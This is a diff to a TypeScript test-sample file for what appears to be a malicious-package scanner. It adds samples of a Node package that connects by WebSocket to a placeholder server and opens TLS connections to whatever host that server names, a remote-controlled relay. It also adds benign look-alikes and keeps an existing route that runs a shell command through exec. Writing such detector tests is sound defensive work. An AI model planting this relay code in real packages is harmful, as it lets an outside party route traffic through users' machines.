@@ -1,8 +1,40 @@
 import type { Samples } from '../contract.ts';
 import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
+/** Loads a package that asks its own server something, and goes on in a connection as `options` say. */
+const upgraded = (
+  options: string,
+): string => `const net = require('net'), tls = require('tls'), WebSocket = require('ws');
+const link = new WebSocket('wss://a.weir.test/exit');
+function secured(socket, host, more) {
+  const options = { socket, servername: host, ...more };
+  if (exports.ca) options.ca = exports.ca;
+  return options;
+}
+const connected = (options) => new Promise((resolve) => {
+  const made = tls.connect(options);
+  made.once('secureConnect', () => resolve(made));
+});
+const first = net.connect(exports.port, exports.host);
+link.on('message', (raw) => {
+  const said = JSON.parse(raw);
+  connected(${options});
+});
+`;
+
 export const samples: Samples = {
   malicious: [
+    ...(
+      [
+        ['beside no connection', '{ host: said.host, port: said.port, socket: undefined }'],
+        ['beside one that is there already', 'secured(first, exports.host, { host: said.host })'],
+        ['in all of what is given', '{ ...said, socket: first }'],
+      ] as const
+    ).map(([name, options]) => ({
+      name: `a server says where to go on to, ${name}`,
+      files: imported(upgraded(options)),
+      expected: [at('relay', 'high', 'index.js', 9)],
+    })),
     {
       name: 'a route that runs a header',
       files: imported(
@@ -105,6 +137,16 @@ export const samples: Samples = {
       'a route that starts what its maker was given',
       imported(
         `const { exec } = require('child_process');\nmodule.exports = (app, command) => {\n  app.post('/deploy', (req, res) => exec(command, () => res.end(req.query.id)));\n};\n`,
+      ),
+    ),
+    quiet(
+      'a connection that is there already goes on as TLS',
+      imported(upgraded('secured(first, exports.host, { minVersion: "TLSv1.2" })')),
+    ),
+    quiet(
+      'a connection through another one, which is given in place',
+      imported(
+        `const net = require('net'), tls = require('tls'), WebSocket = require('ws');\nnew WebSocket('wss://a.weir.test/news');\nconst first = net.connect(exports.port, exports.host);\nfirst.once('connect', () => tls.connect({ ...exports.settings, socket: first }));\n`,
       ),
     ),
     quiet(
